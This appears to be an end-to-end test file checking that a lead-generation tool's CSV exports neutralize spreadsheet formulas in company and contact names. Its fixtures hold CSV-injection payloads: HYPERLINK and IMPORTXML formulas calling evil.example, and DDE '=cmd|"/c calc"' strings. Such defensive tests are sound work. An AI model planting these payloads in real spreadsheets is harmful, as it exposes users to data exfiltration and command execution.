import assert from 'node:assert/strict'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import {parse} from 'csv-parse/sync'

import {startSmtp, type SmtpCapture} from '../helpers/capture-servers.js'
import {rvx} from '../helpers/cli.js'
import {useFreshDatabase} from '../helpers/db.js'
import {answer, FakeOpenAI} from '../helpers/fake-openai.js'
import {waitFor} from '../helpers/processes.js'

/**
 * Company names and sources come from web pages and models: a name a
 * spreadsheet would run as a formula must reach the CSV (written, and mailed)
 * as text, while the JSON export keeps the raw value.
 */
describe('e2e: exports neutralize spreadsheet formulas from hostile names', function () {
  this.timeout(120_000)
  const t = useFreshDatabase()
  const fake = new FakeOpenAI()
  let smtp: SmtpCapture
  let out: string
  const NAMES = ['=HYPERLINK("http://evil.example/x","Click")', '+SUM(1,2)', '-2+3', '@cmd|calc', '\tTabbed PM']

  before(async () => {
    await fake.start()
    smtp = await startSmtp()
    out = fs.mkdtempSync(path.join(os.tmpdir(), 'rvx-e2e-csv-'))
    fake.route = (body) => {
      const prompt: string = body.messages[1].content
      if (prompt.startsWith('Find') && prompt.includes('property-management companies')) {
        return answer({
          companies: NAMES.map((name, i) => ({name, domain: `hostile${i}.example`, state: 'TX', sources: [`=IMPORTXML("http://evil.example/${i}")`]})),
        })
      }

      if (prompt.startsWith('Research')) return answer({portfolio: 'residential', confidence: 'high', reasons: ['=1+1'], sources: [], pms: 'Buildium'})
      return answer({contacts: [{full_name: '=cmd|"/c calc"!A1', title: '@owner', tier: 1, phone: '+1-555-0100', confidence: 'high', sources: []}]})
    }
  })

  after(async () => {
    await fake.stop()
    await smtp.close()
    fs.rmSync(out, {recursive: true, force: true})
  })

  it('CSV cells that start with = + - @ or a tab are prefixed with an apostrophe; JSON keeps them raw; the mailed CSVs are the same', async () => {
    const env = {DATABASE_URL: t.url, OPENAI_API_KEY: 'sk-fake', OPENAI_BASE_URL: fake.url, SMTP_URL: smtp.url}
    const res = await rvx(
      // These sites do not exist: their site and location checks stay unknown, which this run accepts (it is about the CSV).
      [
        'orchestrate',
        '--criteria',
        '{"state":"TX"}',
        '--quantity',
        String(NAMES.length),
        '--accept-unknown',
        'state,site',
        '--output-dir',
        out,
        '--notify-email',
        'sales@example.com',
        '--json',
      ],
      {env},
    )
    assert.equal(res.code, 0, res.stderr)
    const result = JSON.parse(res.stdout)

    const csvText = fs.readFileSync(result.export.files.companies, 'utf8')
    const companies = parse(csvText, {columns: true}) as Array<Record<string, string>>
    assert.deepEqual(companies.map((c) => c.company_name).sort(), NAMES.map((n) => `'${n}`).sort())
    assert.ok(
      companies.every((c) => c.sources.startsWith("'=IMPORTXML")),
      'sources neutralized too',
    )
    const contacts = parse(fs.readFileSync(result.export.files.contacts, 'utf8'), {columns: true}) as Array<Record<string, string>>
    assert.ok(contacts.length > 0)
    assert.ok(contacts.every((c) => c.full_name.startsWith("'=cmd") && c.title === "'@owner" && c.phone === "'+1-555-0100"))

    const json = await rvx(['runs', 'export', String(result.runId), '--format', 'json', '--output-dir', out, '--json'], {env})
    const raw = JSON.parse(fs.readFileSync(JSON.parse(json.stdout).files.companies, 'utf8')) as Array<{company_name: string}>
    assert.deepEqual(raw.map((c) => c.company_name).sort(), [...NAMES].sort(), 'JSON keeps the raw value')

    const [mail] = await waitFor('the completion mail', async () => smtp.to('sales@example.com').length > 0 && smtp.to('sales@example.com'))
    const attached = mail.attachments.find((a) => a.filename?.endsWith('companies.csv'))!
    assert.equal(attached.content.toString('utf8'), csvText, 'the mailed CSV is the exported one')
  })
})
